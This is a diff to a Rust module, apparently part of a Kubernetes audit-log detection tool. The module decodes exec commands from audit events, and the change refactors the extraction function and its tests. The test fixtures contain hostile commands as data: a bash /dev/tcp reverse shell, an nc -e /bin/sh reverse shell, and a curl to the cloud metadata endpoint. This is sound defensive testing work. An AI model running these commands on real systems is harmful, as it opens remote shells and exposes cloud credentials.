@@ -16,14 +16,17 @@ use crate::value::Value;
 /// request with a megabyte of arguments does not cost a megabyte per rule.
 pub const MAX_COMMAND_BYTES: usize = 8 * 1024;
 
-/// The decoded command of an exec-like request, or `None` when the event
+/// The decoded command of an exec-like request, from an Event's
+/// `requestURI` and `requestObject` members, or `None` when the event
 /// carries none.
-pub fn exec_command(audit: &Value<'_>) -> Option<String> {
-    let from_uri = audit
-        .get("requestURI")
+pub fn exec_command(
+    request_uri: Option<&Value<'_>>,
+    request_object: Option<&Value<'_>>,
+) -> Option<String> {
+    let from_uri = request_uri
         .and_then(Value::as_str)
         .and_then(command_from_uri);
-    from_uri.or_else(|| command_from_body(audit))
+    from_uri.or_else(|| command_from_body(request_object?))
 }
 
 fn command_from_uri(uri: &str) -> Option<String> {
@@ -42,8 +45,8 @@ fn command_from_uri(uri: &str) -> Option<String> {
     found.then_some(out)
 }
 
-fn command_from_body(audit: &Value<'_>) -> Option<String> {
-    let args = audit.get("requestObject")?.get("command")?.as_array()?;
+fn command_from_body(request_object: &Value<'_>) -> Option<String> {
+    let args = request_object.get("command")?.as_array()?;
     let mut out = String::new();
     for arg in args {
         let Some(text) = arg.as_str() else { continue };
@@ -76,6 +79,10 @@ fn push_argument(out: &mut String, arg: &str) -> bool {
 mod tests {
     use super::*;
 
+    fn command_of(ev: &Value<'_>) -> Option<String> {
+        exec_command(ev.get("requestURI"), ev.get("requestObject"))
+    }
+
     fn event(json: &str) -> Value<'static> {
         Value::from_slice(json.as_bytes())
             .expect("test JSON")
@@ -88,7 +95,7 @@ mod tests {
             r#"{"requestURI":"/api/v1/namespaces/web/pods/f/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F169.254.169.254%2Flatest%2F&container=app&stdin=true&tty=true"}"#,
         );
         assert_eq!(
-            exec_command(&ev).as_deref(),
+            command_of(&ev).as_deref(),
             Some("sh -c curl -s http://169.254.169.254/latest/")
         );
     }
@@ -99,7 +106,7 @@ mod tests {
             r#"{"requestURI":"/exec?command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F1.2.3.4%2F4444%200%3E%261"}"#,
         );
         assert_eq!(
-            exec_command(&ev).as_deref(),
+            command_of(&ev).as_deref(),
             Some("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
         );
     }
@@ -107,7 +114,7 @@ mod tests {
     #[test]
     fn kubelet_run_through_nodes_proxy_uses_cmd() {
         let ev = event(r#"{"requestURI":"/api/v1/nodes/n1/proxy/run/ns/p/c?cmd=id"}"#);
-        assert_eq!(exec_command(&ev).as_deref(), Some("id"));
+        assert_eq!(command_of(&ev).as_deref(), Some("id"));
     }
 
     #[test]
@@ -116,20 +123,17 @@ mod tests {
             r#"{"requestURI":"/api/v1/namespaces/a/pods/b/exec","requestObject":{"command":["nc","-e","/bin/sh","198.51.100.7","4444"]}}"#,
         );
         assert_eq!(
-            exec_command(&ev).as_deref(),
+            command_of(&ev).as_deref(),
             Some("nc -e /bin/sh 198.51.100.7 4444")
         );
     }
 
     #[test]
     fn no_command_is_none_and_bad_escapes_do_not_fail() {
-        assert_eq!(
-            exec_command(&event(r#"{"requestURI":"/api/v1/pods"}"#)),
-            None
-        );
-        assert_eq!(exec_command(&event(r#"{"verb":"get"}"#)), None);
+        assert_eq!(command_of(&event(r#"{"requestURI":"/api/v1/pods"}"#)), None);
+        assert_eq!(command_of(&event(r#"{"verb":"get"}"#)), None);
         let ev = event(r#"{"requestURI":"/exec?command=%ZZ%&command=%E2%82"}"#);
-        assert!(exec_command(&ev).is_some());
+        assert!(command_of(&ev).is_some());
     }
 
     proptest::proptest! {
@@ -140,7 +144,7 @@ mod tests {
                 "requestURI".into(),
                 Value::from(uri.as_str()),
             )]));
-            if let Some(cmd) = exec_command(&ev) {
+            if let Some(cmd) = command_of(&ev) {
                 proptest::prop_assert!(cmd.len() <= MAX_COMMAND_BYTES);
             }
         }
@@ -151,7 +155,7 @@ mod tests {
         let arg = "é".repeat(MAX_COMMAND_BYTES);
         let uri = format!("/exec?command={arg}&command=tail");
         let ev = event(&format!(r#"{{"requestURI":"{uri}"}}"#));
-        let cmd = exec_command(&ev).expect("command");
+        let cmd = command_of(&ev).expect("command");
         assert!(cmd.len() <= MAX_COMMAND_BYTES);
         assert!(!cmd.ends_with("tail"));
     }
